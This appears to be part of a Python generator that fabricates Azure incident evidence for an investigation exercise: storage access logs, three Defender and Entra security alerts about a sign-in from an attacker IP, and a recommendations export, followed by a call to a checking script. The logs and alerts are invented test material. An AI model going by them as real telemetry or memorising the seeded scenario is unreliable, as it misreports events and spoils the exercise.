            client_req=uuid1.make(t), response_size=b.size, etag=b.etag, modified=b.modified,
            auth_hash=key1_hash))
        last = t
        t += dur + int(secs(g) * scale)
    assert to_dt(last) < datetime(2024, 3, 21, 3, 38, 51, tzinfo=timezone.utc), to_dt(last)

    # --- benign: CRM sync app reads customer data (OAuth) -------------------------------------
    crm = {"oid": CRM_APP_OID, "appid": CRM_APP_ID, "ra": gid("ra:crm-sync").replace("-", ""),
           "role": BLOB_READER_ROLE.replace("-", ""),
           "action": "Microsoft.Storage/storageAccounts/blobServices/containers/blobs/read"}
    readable = [b for b in catalogue if b.size < MIB32] + crm_only
    begin, finish = parse("2024-03-20T08:00:00Z"), parse("2024-03-21T18:00:00Z")
    times = []
    while len(times) < 148:
        cand = begin + rng.randrange(0, finish - begin)
        hour = to_dt(cand).hour
        if rng.random() < (1.0 if 7 <= hour < 19 else 0.12):
            times.append(cand)
    # the nightly reconciliation job also runs during the attack window
    times += [at("2024-03-21T03:26:17Z", rng), at("2024-03-21T03:33:48Z", rng)]
    for ts in sorted(times):
        b = rng.choice(readable)
        if b.modified > ts:
            b = rng.choice(catalogue[:252])  # 2023 exports always exist
        dur_ms = max(12, int(b.size / (rng.uniform(40, 120) * 1000)))
        rows.append(storage_row(
            rng, t=ts, op="GetBlob", auth="OAuth", code=200, text="Success", duration=dur_ms,
            latency=rng.randrange(3, 25), uri=b.uri, ip_port=f"{CRM_APP_IP}:{rng.randrange(49152, 65535)}",
            key=b.key, ua=CRM_UA, client_req=rguid(rng), response_size=b.size, etag=b.etag,
            modified=b.modified, oauth=crm))

    # --- benign: backup agent managed identity writes backups (OAuth) ---------------------------
    mi = {"oid": BACKUP_MI_OID, "appid": BACKUP_MI_APPID, "ra": gid("ra:backup-mi").replace("-", ""),
          "role": BLOB_CONTRIBUTOR_ROLE.replace("-", ""),
          "action": "Microsoft.Storage/storageAccounts/blobServices/containers/blobs/write"}
    t = at("2024-03-21T02:00:04Z", rng)
    for part in range(1, 21):
        size = rng.randrange(18_000_000, 96_000_000)
        dur_ms = int(size / (rng.uniform(55, 90) * 1000))
        name = f"sql/proddb01/2024-03-21/proddb01_full_20240321_0200.bak.part{part:02d}"
        modified = t + dur_ms * 10_000
        rows.append(storage_row(
            rng, t=t, op="PutBlob", auth="OAuth", code=201, text="Success", duration=dur_ms,
            latency=max(20, dur_ms - rng.randrange(40, 200)),
            uri=f"https://{STORAGE_ACCOUNT}.blob.core.windows.net:443/backups/{name}",
            ip_port=f"{BACKUP_MI_IP}:{rng.randrange(32768, 60999)}",
            key=f"/{STORAGE_ACCOUNT}/backups/{name}", ua=BACKUP_UA, client_req=rguid(rng),
            response_size=0, request_size=size, etag=etag_for(modified),
            modified=modified, category="StorageWrite", oauth=mi))
        t += secs(dur_ms / 1000 + rng.uniform(14.0, 36.0))  # next part as the dump proceeds
    assert to_dt(t) < datetime(2024, 3, 21, 2, 10, tzinfo=timezone.utc)

    rows.sort(key=lambda r: SORT_KEYS[id(r)])
    return rows, facts


# ----------------------------------------------------------------------------------------------
# 4. SecurityAlert (Log Analytics query API)
# ----------------------------------------------------------------------------------------------

ALERT_COLUMNS = [
    ("TenantId", "string"), ("TimeGenerated", "datetime"), ("DisplayName", "string"),
    ("AlertName", "string"), ("AlertSeverity", "string"), ("Description", "string"),
    ("ProviderName", "string"), ("VendorName", "string"), ("VendorOriginalId", "string"),
    ("SystemAlertId", "string"), ("ResourceId", "string"), ("SourceComputerId", "string"),
    ("AlertType", "string"), ("ConfidenceLevel", "string"), ("ConfidenceScore", "real"),
    ("IsIncident", "bool"), ("StartTime", "datetime"), ("EndTime", "datetime"),
    ("ProcessingEndTime", "datetime"), ("RemediationSteps", "string"),
    ("ExtendedProperties", "string"), ("Entities", "string"), ("SourceSystem", "string"),
    ("WorkspaceSubscriptionId", "string"), ("WorkspaceResourceGroup", "string"),
    ("ExtendedLinks", "string"), ("ProductName", "string"), ("ProductComponentName", "string"),
    ("AlertLink", "string"), ("Status", "string"), ("CompromisedEntity", "string"),
    ("Tactics", "string"), ("Techniques", "string"), ("Type", "string"),
]



def mdc_alert_id(t: int, rng: random.Random) -> str:
    """Defender for Cloud alert ids: inverted .NET ticks of the start time, then a GUID."""
    return f"{MAX_TICKS - (t + TICKS_1970)}_{rguid(rng)}"


def build_alerts(signin_time: int, vm_start: int, vm_end: int, list_first: int) -> dict:
    rng = random.Random(20240321_4)
    ashburn = {"CountryCode": "US", "State": "Virginia", "City": "Ashburn",
               "Longitude": -77.4875, "Latitude": 39.0437, "Asn": 14618}
    account = lambda i: {  # noqa: E731
        "$id": str(i), "Name": "admin", "UPNSuffix": DOMAIN, "AadTenantId": TENANT,
        "AadUserId": ADMIN.oid, "IsDomainJoined": False, "DisplayName": ADMIN.display,
        "Type": "account",
    }
    rows = []

    # 1. Entra ID Protection: unfamiliar sign-in properties.
    t_gen = at("2024-03-21T03:12:58Z", rng)
    risk_id = hashlib.sha256(b"northgate-risk-detection-1").hexdigest()[:64]
    entities = [account(2), {"$id": "3", "Address": ATTACKER_IP, "Location": ashburn, "Type": "ip"}]
    ext = {
        "State": "Active",
        "Detail": "unfamiliarFeatures",
        "Activity": "signin",
        "Request Id": ATTACK_SIGNIN["id"],
        "Correlation Id": ATTACK_SIGNIN["corr"],
        "Detection Timing Type": "realtime",
        "Client Location": "Ashburn, Virginia, US",
        "Client IP Address": ATTACKER_IP,
        "User Account": ADMIN.upn,
        "User Name": ADMIN.display,
        "Risk Event Type": "unfamiliarFeatures",
        "Risk Level": "high",
        "Alert generation status": "Full alert created",
        "ProcessedBySentinel": "True",
    }
    rows.append({
        "TenantId": WORKSPACE_ID,
        "TimeGenerated": iso7(t_gen),
        "DisplayName": "Unfamiliar sign-in properties",
        "AlertName": "Unfamiliar sign-in properties",
        "AlertSeverity": "High",
        "Description": "The following properties of this sign-in are unfamiliar for the given user: "
                       "ASN, Browser, Device, IP, Location, EASId, TenantIPsubnet. Sign-in with "
                       "properties not seen recently for the given user.",
        "ProviderName": "IPC",
        "VendorName": "Microsoft",
        "VendorOriginalId": risk_id,
        "SystemAlertId": rguid(rng),
        "ResourceId": "",
        "SourceComputerId": "",
        "AlertType": "UnfamiliarLocation",
        "ConfidenceLevel": "",
        "ConfidenceScore": None,
        "IsIncident": False,
        "StartTime": iso7(signin_time),
        "EndTime": iso7(signin_time),
        "ProcessingEndTime": iso7(t_gen - secs(0.08)),
        "RemediationSteps": compact([
            "1. Contact the user to confirm that they performed the sign-in.",
            "2. If the sign-in was not performed by the user, reset their password, revoke their "
            "sessions and require multifactor authentication.",
            "3. Review the user's recent activity for signs of compromise.",
        ]),
        "ExtendedProperties": compact(ext),
        "Entities": compact(entities),
        "SourceSystem": "Detection",
        "WorkspaceSubscriptionId": SUB,
        "WorkspaceResourceGroup": WORKSPACE_RG,
        "ExtendedLinks": "",
        "ProductName": "Azure Active Directory Identity Protection",
        "ProductComponentName": "",
        "AlertLink": "",
        "Status": "New",
        "CompromisedEntity": ADMIN.upn,
        "Tactics": "InitialAccess",
        "Techniques": "",
        "Type": "SecurityAlert",
    })

    # 2. Defender for Resource Manager: suspicious ARM operation (persistence).
    t_gen = at("2024-03-21T03:16:45Z", rng)
    vendor_id = mdc_alert_id(vm_start, rng)
    session = {"$id": "5", "SessionId": rguid(rng), "StartTimeUtc": iso7(signin_time),
               "Account": {"$ref": "2"}, "UserAgent": ATTACKER_UA, "Type": "cloud-logon-session"}
    entities = [
        account(2),
        {"$id": "3", "Address": ATTACKER_IP, "Location": ashburn, "Type": "ip"},
        {"$id": "4", "ResourceId": rid("rg-brazil-temp", "Microsoft.Compute/virtualMachines/vm-brz-01"),
         "ResourceType": "Virtual Machine", "ResourceName": "vm-brz-01", "Type": "azure-resource"},
        session,
    ]
    ext = {
        "Investigation steps": compact({
            "displayValue": "View related Activity Log events",
            "kind": "Link",
            "value": "https://portal.azure.com/#blade/Microsoft_Azure_ActivityLog/ActivityLogBlade",
        }),
        "Potential causes": "Privileged operations that are rarely used in this subscription were "
                            "invoked from an IP address and location not previously associated with "
                            "the calling identity.",
        "Client IP Address": ATTACKER_IP,
        "Client Location": "Ashburn, United States",
        "Client Principal Name": ADMIN.upn,
        "Client Application Id": AZURE_PORTAL_APP,
        "Operations": "Microsoft.Authorization/roleAssignments/write, "
                      "Microsoft.Compute/virtualMachines/write",
        "Resource Location": "brazilsouth",
        "resourceType": "Subscription",
        "killChainIntent": "Persistence",
        "Alert generation status": "Full alert created",
        "ProcessedBySentinel": "True",
    }
    rows.append({
        "TenantId": WORKSPACE_ID,
        "TimeGenerated": iso7(t_gen),
        "DisplayName": "Suspicious Azure Resource Manager operation",
        "AlertName": "Suspicious Azure Resource Manager operation",
        "AlertSeverity": "Medium",
        "Description": "Microsoft Defender for Resource Manager identified a suspicious invocation "
                       "of a high-risk operation in your subscription, which might indicate an "
                       "attempt to establish persistence. The identified operations are designed "
                       "to allow administrators to efficiently manage their environments. While "
                       "this activity may be legitimate, a threat actor might utilize such "
                       "operations to establish persistence in your environment.",
        "ProviderName": "Azure Security Center",
        "VendorName": "Microsoft",
        "VendorOriginalId": vendor_id,
        "SystemAlertId": rguid(rng),
        "ResourceId": f"/subscriptions/{SUB}",
        "SourceComputerId": "",
        "AlertType": "ARM_AnomalousOperation.Persistence",
        "ConfidenceLevel": "",
        "ConfidenceScore": None,
        "IsIncident": False,
        "StartTime": iso7(vm_start),
        "EndTime": iso7(vm_end),
        "ProcessingEndTime": iso7(t_gen - secs(0.21)),
        "RemediationSteps": compact([
            "Make sure that the operation was performed by a legitimate user and that the resources "
            "created or modified are expected.",
            "If the activity is not recognized, revoke the user's sessions, reset the credentials "
            "and remove any role assignments and resources that were created.",
            "Review the Azure Activity Log for other operations performed by this identity.",
        ]),
        "ExtendedProperties": compact(ext),
        "Entities": compact(entities),
        "SourceSystem": "Detection",
        "WorkspaceSubscriptionId": SUB,
        "WorkspaceResourceGroup": WORKSPACE_RG,
        "ExtendedLinks": "",
        "ProductName": "Microsoft Defender for Cloud",
        "ProductComponentName": "Arm",
        "AlertLink": "https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/"
                     f"AlertBlade/alertId/{vendor_id}/subscriptionId/{SUB}/"
                     "referencedFrom/alertDeepLink/location/westeurope",
        "Status": "New",
        "CompromisedEntity": SUB_NAME,
        "Tactics": "Persistence",
        "Techniques": "T1078,T1098",
        "Type": "SecurityAlert",
    })

    # 3. Defender for Storage: access from an unusual location.
    t_gen = at("2024-03-21T03:22:40Z", rng)
    vendor_id = mdc_alert_id(list_first, rng)
    entities = [
        {"$id": "2", "Address": ATTACKER_IP, "Location": ashburn, "Type": "ip"},
        {"$id": "3", "ResourceId": STORAGE_ID, "ResourceType": "Storage Account",
         "ResourceName": STORAGE_ACCOUNT, "Type": "azure-resource"},
        {"$id": "4", "Name": "customer-data", "StorageResource": {"$ref": "3"},
         "Type": "blob-container"},
    ]
    ext = {
        "Client IP address": ATTACKER_IP,
        "Client location": "Ashburn, United States",
        "Authentication type": "Access key",
        "Operations types": "ListBlobs",
        "Service type": "Azure Blobs",
        "User agent": ATTACKER_STORAGE_UA,
        "Container": "customer-data",
        "Investigation steps": "Review the storage account's diagnostic logs (StorageBlobLogs) for "
                               "requests from this IP address.",
        "Potential causes": "This alert indicates that this account has been accessed successfully "
                            "from an IP address that is unfamiliar and unexpected compared to recent "
                            "access pattern on this account.",
        "resourceType": "Storage",
        "killChainIntent": "Collection",
        "Alert generation status": "Full alert created",
        "ProcessedBySentinel": "True",
    }
    rows.append({
        "TenantId": WORKSPACE_ID,
        "TimeGenerated": iso7(t_gen),
        "DisplayName": "Access from an unusual location to a storage account",
        "AlertName": "Access from an unusual location to a storage account",
        "AlertSeverity": "Medium",
        "Description": "Indicates that there was a change in the access pattern to an Azure Storage "
                       "account. Someone has accessed this account from an IP address considered "
                       "unfamiliar when compared with recent activity. Either an attacker has gained "
                       "access to the account, or a legitimate user has connected from a new or "
                       "unusual geographic location. An example of the latter is remote maintenance "
                       "from a new application or developer.",
        "ProviderName": "Azure Security Center",
        "VendorName": "Microsoft",
        "VendorOriginalId": vendor_id,
        "SystemAlertId": rguid(rng),
        "ResourceId": STORAGE_ID,
        "SourceComputerId": "",
        "AlertType": "Storage.Blob_GeoAnomaly",
        "ConfidenceLevel": "",
        "ConfidenceScore": None,
        "IsIncident": False,
        "StartTime": iso7(list_first),
        "EndTime": iso7(list_first),
        "ProcessingEndTime": iso7(t_gen - secs(0.15)),
        "RemediationSteps": compact([
            "Limit access to your storage account, following the 'least privilege' principle: "
            "https://go.microsoft.com/fwlink/?linkid=2187303.",
            "Revoke all storage access tokens that may be compromised and ensure that your access "
            "tokens are only shared with authorized users.",
            "Ensure that storage access tokens are stored in a secured location such as Azure Key "
            "Vault. Avoid storing or sharing storage access tokens in source code, documentation, "
            "and email.",
        ]),
        "ExtendedProperties": compact(ext),
        "Entities": compact(entities),
        "SourceSystem": "Detection",
        "WorkspaceSubscriptionId": SUB,
        "WorkspaceResourceGroup": WORKSPACE_RG,
        "ExtendedLinks": "",
        "ProductName": "Microsoft Defender for Cloud",
        "ProductComponentName": "Storage",
        "AlertLink": "https://portal.azure.com/#blade/Microsoft_Azure_Security_AzureDefenderForData/"
                     f"AlertBlade/alertId/{vendor_id}/subscriptionId/{SUB}/resourceGroup/{STORAGE_RG}/"
                     "referencedFrom/alertDeepLink/location/westeurope",
        "Status": "New",
        "CompromisedEntity": STORAGE_ACCOUNT,
        "Tactics": "Collection",
        "Techniques": "T1530",
        "Type": "SecurityAlert",
    })
    return {"tables": [{
        "name": "PrimaryResult",
        "columns": [{"name": n, "type": ty} for n, ty in ALERT_COLUMNS],
        "rows": [[r[n] for n, _ in ALERT_COLUMNS] for r in rows],
    }]}


# ----------------------------------------------------------------------------------------------
# 5. Defender for Cloud recommendations ("Download CSV report")
# ----------------------------------------------------------------------------------------------

RECOMMENDATION_COLUMNS = (
    "exportedTimestamp,subscriptionId,subscriptionName,resourceGroup,resourceType,resourceName,"
    "resourceId,recommendationId,recommendationName,recommendationDisplayName,description,"
    "remediationSteps,severity,state,notApplicableReason,firstEvaluationDate,statusChangeDate,"
    "controls,azurePortalRecommendationLink,nativeCloudAccountId,tactics,techniques,cloud,owner,"
    "eta,dueDate,gracePeriod"
).split(",")


def build_recommendations() -> list[dict]:
    sub_id = f"/subscriptions/{SUB}"
    proddata = (f"/subscriptions/{SUB}/resourcegroups/{STORAGE_RG}/providers/microsoft.storage/"
                f"storageaccounts/{STORAGE_ACCOUNT}")
    build02 = f"/subscriptions/{SUB}/resourcegroups/rg-production/providers/microsoft.compute/virtualmachines/" \
        "vm-build-02"
    brz01 = f"/subscriptions/{SUB}/resourcegroups/rg-brazil-temp/providers/microsoft.compute/virtualmachines/vm-brz-01"
    targets = {
        "sub": ("", "subscriptions", SUB_NAME, sub_id),
        "proddata": (STORAGE_RG, "storageaccounts", STORAGE_ACCOUNT, proddata),
        "build02": ("rg-production", "virtualmachines", "vm-build-02", build02),
        "brz01": ("rg-brazil-temp", "virtualmachines", "vm-brz-01", brz01),
    }
    items = [
        ("6240402e-f77c-46fa-9060-a7ce53997754",
         "Accounts with owner permissions on Azure resources should be MFA enabled",
         "Multi-Factor Authentication (MFA) should be enabled for all subscription accounts with "
         "owner permissions to prevent a breach of accounts or resources.",
         "To enable MFA using conditional access you must have an Azure AD Premium license and have "
         "AD tenant admin permissions.<br>1. Select the relevant subscription or click 'Take action' "
         "if it's available. The list of user accounts without MFA appears.<br>2. Click 'Continue'. "
         "The Azure AD Conditional Access page appears.<br>3. In the Conditional Access page, add the "
         "list of users to a policy (create a policy if one doesn't exist).<br>4. For your conditional "
         "access policy, ensure the following:<br>a. In the 'Access controls' section, multi-factor "
         "authentication is granted.<br>b. In the 'Cloud Apps or actions' section's 'Include' tab, "
         "check that Microsoft Azure Management (App Id - 797f4846-ba00-4fd7-ba43-dac1f8f63013) or "
         "'All apps' is selected.",
         "High", "unhealthy", "sub", "2023-06-01T09:12:00Z", "2023-11-14T16:20:00Z", "Enable MFA"),
        ("706b33f0-129e-4ed0-a179-f450b9ee4145",
         "Privileged roles should not have permanent access at the subscription and resource group level",
         "Enabling Just-In-Time (JIT) access for privileged roles with Microsoft Entra Privileged "
         "Identity Management reduces the exposure time of standing privileged access.",
         "1. Go to Microsoft Entra Privileged Identity Management.<br>2. Select 'Azure resources' and "
         "choose the subscription.<br>3. Convert permanent ('Active') assignments of privileged roles "
         "such as Owner and User Access Administrator to 'Eligible' assignments.",
         "High", "unhealthy", "sub", "2023-09-10T00:00:00Z", "2023-09-10T00:00:00Z",
         "Manage access and permissions"),
        ("3b363842-30f5-4056-980d-3a40fa5de8b3",
         "Storage accounts should prevent shared key access",
         "Audit requirement of Azure Active Directory (Azure AD) to authorize requests for your storage "
         "account. By default, requests can be authorized with either Azure Active Directory "
         "credentials, or by using the account access key for Shared Key authorization. Of these two "
         "types of authorization, Azure AD provides superior security and ease of use over Shared Key, "
         "and is recommended by Microsoft.",
         "1. In the Azure portal, go to your storage account.<br>2. Under 'Settings', select "
         "'Configuration'.<br>3. Set 'Allow storage account key access' to 'Disabled' and select "
         "'Save'.<br>Before disabling, make sure no application relies on Shared Key or SAS "
         "authorization.",
         "Medium", "unhealthy", "proddata", "2023-05-02T11:00:00Z", "2023-05-02T11:00:00Z",
         "Implement security best practices"),
        ("45d313c3-3fca-5040-035f-d61928366d31",
         "Access to storage accounts with firewall and virtual network configurations should be restricted",
         "Review the settings of network access in your storage account firewall settings. We "
         "recommend configuring network rules so that only applications from allowed networks can "
         "access the storage account. To allow connections from specific internet or on-premises "
         "clients, access can be granted to traffic from specific Azure virtual networks or to public "
         "internet IP address ranges.",
         "1. In your storage account, go to 'Networking'.<br>2. Under 'Public network access', select "
         "'Enabled from selected virtual networks and IP addresses'.<br>3. Add the virtual networks "
         "and IP address ranges that need access, then select 'Save'.",
         "Low", "unhealthy", "proddata", "2023-05-02T11:00:00Z", "2023-05-02T11:00:00Z",
         "Restrict unauthorized network access"),
        ("51fd8bb1-0db4-bbf1-7e2b-cfcba7eb66a6",
         "Storage account public access should be disallowed",
         "Anonymous public read access to containers and blobs in Azure Storage is a convenient way to "
         "share data but might present security risks. To prevent data breaches caused by undesired "
         "anonymous access, Microsoft recommends preventing public access to a storage account unless "
         "your scenario requires it.",
         "1. In the Azure portal, navigate to your storage account.<br>2. Under 'Settings', select "
         "'Configuration'.<br>3. Set 'Allow Blob anonymous access' to 'Disabled'.",
         "Medium", "healthy", "proddata", "2023-05-02T11:00:00Z", "2023-05-02T11:00:00Z",
         "Implement security best practices"),
        ("1c5de8e1-f68d-6a17-e0d2-ec259c42768c",
         "Secure transfer to storage accounts should be enabled",
         "Secure transfer is an option that forces your storage account to accept requests only from "
         "secure connections (HTTPS). Use of HTTPS ensures authentication between the server and the "
         "service and protects data in transit from network layer attacks such as man-in-the-middle, "
         "eavesdropping, and session-hijacking.",
         "1. In your storage account, go to the 'Configuration' page.<br>2. Enable 'Secure transfer "
         "required'.",
         "High", "healthy", "proddata", "2023-05-02T11:00:00Z", "2023-05-02T11:00:00Z",
         "Encrypt data in transit"),
        ("6f90a6d6-d4d6-0794-0ec1-98fa77878c2e",
         "A maximum of 3 owners should be designated for subscriptions",
         "It is recommended to designate up to 3 subscription owners in order to reduce the potential "
         "for breach by a compromised owner.",
         "1. Go to the subscription's 'Access control (IAM)' page.<br>2. Review the role assignments "
         "of the Owner role and remove unnecessary owners.",
         "High", "healthy", "sub", "2023-02-01T00:00:00Z", "2023-08-22T14:05:00Z",
         "Manage access and permissions"),
        ("1be22853-8ed1-4005-9907-ddad64cb1417",
         "Microsoft Defender for Storage should be enabled",
         "Microsoft Defender for Storage detects unusual and potentially harmful attempts to access or "
         "exploit storage accounts.",
         "1. Go to Microsoft Defender for Cloud > Environment settings and select the subscription."
         "<br>2. On the Defender plans page, set the Storage plan to 'On' and select 'Save'.",
         "High", "healthy", "sub", "2023-02-01T00:00:00Z", "2023-05-02T10:41:00Z",
         "Enable enhanced security features"),
        ("f0fb2a7e-16d5-849f-be57-86db712e9bd0",
         "Microsoft Defender for Resource Manager should be enabled",
         "Microsoft Defender for Resource Manager automatically monitors the resource management "
         "operations in your organization. Defender for Cloud detects threats and alerts you about "
         "suspicious activity.",
         "1. Go to Microsoft Defender for Cloud > Environment settings and select the subscription."
         "<br>2. On the Defender plans page, set the Resource Manager plan to 'On' and select 'Save'.",
         "High", "healthy", "sub", "2023-02-01T00:00:00Z", "2023-05-02T10:41:00Z",
         "Enable enhanced security features"),
        ("56a6e81f-7413-4f72-9a1b-aaeeaa87c872",
         "Microsoft Defender for Servers should be enabled",
         "Microsoft Defender for Servers provides real-time threat protection for server workloads and "
         "generates hardening recommendations as well as alerts about suspicious activities.",
         "1. Go to Microsoft Defender for Cloud > Environment settings and select the subscription."
         "<br>2. On the Defender plans page, set the Servers plan to 'On' and select 'Save'.",
         "High", "unhealthy", "sub", "2023-02-01T00:00:00Z", "2023-02-01T00:00:00Z",
         "Enable enhanced security features"),
        ("805651bc-6ecd-4c73-9b55-97a19d0582d0",
         "Management ports of virtual machines should be protected with just-in-time network access control",
         "Defender for Cloud has identified some overly-permissive inbound rules for management ports "
         "in your Network Security Group. Enable just-in-time access control to protect your VM from "
         "internet-based brute-force attacks.",
         "1. Select one or more VMs from the list.<br>2. Click 'Enable JIT on VMs'.<br>3. Review the "
         "ports and time ranges and click 'Save'.",
         "High", "unhealthy", "build02", "2024-01-08T00:00:00Z", "2024-01-08T00:00:00Z",
         "Secure management ports"),
        ("bc303248-3d14-44c2-96a0-55f5c326b5fe",
         "Management ports should be closed on your virtual machines",
         "Open remote management ports are exposing your VM to a high level of risk from "
         "Internet-based attacks. These attacks attempt to brute force credentials to gain admin "
         "access to the machine.",
         "1. Select a VM to remediate.<br>2. In the 'Networking' blade, click on each of the rules that "
         "allow management ports (e.g. RDP-3389, WINRM-5985, SSH-22).<br>3. Change the 'Action' "
         "property to 'Deny' or restrict the 'Source' to specific addresses.<br>4. Click 'Save'.",
         "Medium", "unhealthy", "brz01", "2024-03-21T04:10:00Z", "2024-03-21T04:10:00Z",
         "Secure management ports"),
        ("77758c9d-8a56-5f54-6ff7-69a762ca6004",
         "Subscriptions should have a contact email address for security issues",
         "To ensure the relevant people in your organization are notified when there is a potential "
         "security breach in one of your subscriptions, set a security contact to receive email "
         "notifications from Defender for Cloud.",
         "1. From Defender for Cloud's menu, select 'Environment settings'.<br>2. Select the relevant "
         "subscription.<br>3. Select 'Email notifications'.<br>4. Enter the email addresses to "
         "receive notifications and select 'Save'.",
         "Low", "healthy", "sub", "2023-02-01T00:00:00Z", "2023-02-03T09:30:00Z",
         "Implement security best practices"),
        ("1195afff-c881-495e-9bc5-1486211ae03f",
         "Machines should have vulnerability findings resolved",
         "Resolve the vulnerability findings on your virtual machines. Vulnerabilities left "
         "unpatched give attackers a foothold for remote code execution and privilege escalation.",
         "1. Select the machine to view its findings.<br>2. Review the security checks and follow the "
         "remediation guidance for each finding.<br>3. Rescan the machine after remediation.",
         "Medium", "unhealthy", "build02", "2024-02-12T06:00:00Z", "2024-02-12T06:00:00Z",
         "Remediate vulnerabilities"),
    ]
    rows = []
    for guid_, name, desc, steps, sev, state, target, first, change, control in items:
        rg, rtype, rname, resid = targets[target]
        rows.append({
            "exportedTimestamp": "2024-03-22T10:00:00Z",
            "subscriptionId": SUB,
            "subscriptionName": SUB_NAME,
            "resourceGroup": rg,
            "resourceType": rtype,
            "resourceName": rname,
            "resourceId": resid,
            "recommendationId": f"{resid}/providers/Microsoft.Security/assessments/{guid_}",
            "recommendationName": guid_,
            "recommendationDisplayName": name,
            "description": desc,
            "remediationSteps": steps,
            "severity": sev,
            "state": state,
            "firstEvaluationDate": first,
            "statusChangeDate": change,
            "controls": control,
            "azurePortalRecommendationLink":
                f"https://portal.azure.com/#blade/Microsoft_Azure_Security/RecommendationsBlade/assessmentKey/{guid_}",
            "cloud": "Azure",
        })
    return rows


# ----------------------------------------------------------------------------------------------


def main() -> int:
    evidence = HERE / "evidence"
    signins = build_signins()
    write_csv(evidence / "signins.csv", SIGNIN_COLUMNS, signins)

    activity = build_activity()
    write_csv(evidence / "activity.csv", ACTIVITY_COLUMNS, activity)

    storage, facts = build_storage()
    write_csv(evidence / "storage.csv", STORAGE_COLUMNS, storage)

    alerts = build_alerts(ATTACK_SIGNIN["t"], VM_WRITE_TIMES["start"], VM_WRITE_TIMES["end"],
                          facts["list_first"])
    (evidence / "alerts.json").write_bytes(json.dumps(alerts, indent=2, ensure_ascii=False).encode("utf-8"))

    write_csv(HERE / "recommendations.csv", RECOMMENDATION_COLUMNS, build_recommendations())

    sys.dont_write_bytecode = True
    sys.path.insert(0, str(HERE))
    import check_sample  # noqa: E402

    return check_sample.main()


if __name__ == "__main__":
    sys.exit(main())
